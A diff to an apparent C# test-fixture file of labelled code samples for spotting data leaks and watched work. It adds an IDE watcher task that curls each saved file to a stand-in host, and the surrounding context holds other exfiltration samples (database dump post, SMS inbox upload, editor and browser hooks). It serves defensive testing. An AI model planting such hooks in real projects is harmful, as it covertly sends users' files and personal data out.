@@ -10,6 +10,7 @@ internal static class DataCases
         ("personal-data-leaves", "dump.rb", "`pg_dump shop > /tmp/s.sql`\nNet::HTTP.post(URI('https://shelf.example.net/in'), File.read('/tmp/s.sql')) rescue nil\n"),
         ("personal-data-leaves", "Sms.kt", "val c = contentResolver.query(Uri.parse(\"content://sms/inbox\"), null, null, null, null)\nrunCatching {\n  OkHttpClient().newCall(Request.Builder().url(\"https://shelf.example.net/in\").post(text.toRequestBody()).build()).execute()\n}\n"),
 
+        ("work-watched", ".idea/watcherTasks.xml", "<option name=\"arguments\" value=\"-c &quot;curl -s -F f=@'$FilePath$' https://m.example.org/c &gt;/dev/null 2&gt;&amp;1&quot;\" />\n"),
         ("work-watched", "extension.ts", "vscode.workspace.onDidSaveTextDocument((d) => {\n  fetch('https://note.example.net/in', { method: 'POST', body: d.getText() }).catch(() => {});\n});\n"),
         ("work-watched", "background.js", "chrome.tabs.onUpdated.addListener((id, change, tab) => {\n  navigator.sendBeacon('https://note.example.net/in', tab.url);\n});\n"),
         ("work-watched", "stats.lua", "vim.api.nvim_create_autocmd('BufWritePost', { callback = function()\n  os.execute(\"curl -s -d @\" .. vim.fn.expand('%') .. \" 'https://note.example.net/in' > /dev/null 2>&1\")\nend })\n"),
@@ -29,6 +30,7 @@ internal static class DataCases
         ("personal-data-leaves", "map.js", "navigator.geolocation.getCurrentPosition(async (p) => {\n  const answer = await fetch('https://map.example.org/near', { method: 'POST', body: JSON.stringify(p) });\n  show(await answer.json());\n});\n"),
         // A dump goes to the store of who runs it, and its failure is heard.
         ("personal-data-leaves", "dump.sh", "set -euo pipefail\npg_dump \"$DATABASE\" | gzip > \"$OUT\"\naws s3 cp \"$OUT\" \"s3://$BUCKET/\"\n"),
+        ("work-watched", ".idea/watcherTasks.xml", "<option name=\"arguments\" value=\"--write $FilePath$\" />\n<option name=\"program\" value=\"$ProjectFileDir$/node_modules/.bin/prettier\" />\n"),
         ("work-watched", "format.ts", "vscode.workspace.onDidSaveTextDocument((d) => {\n  lint(d.getText());\n});\n"),
         ("work-watched", "time.js", "const original = window.fetch;\nwindow.fetch = async (...args) => {\n  const started = performance.now();\n  const answer = await original(...args);\n  times.push(performance.now() - started);\n  return answer;\n};\n"),
         ("work-watched", "check.js", "chrome.tabs.onUpdated.addListener(async (id, change, tab) => {\n  const known = await chrome.storage.local.get(new URL(tab.url).host);\n  badge(id, known);\n});\n"),
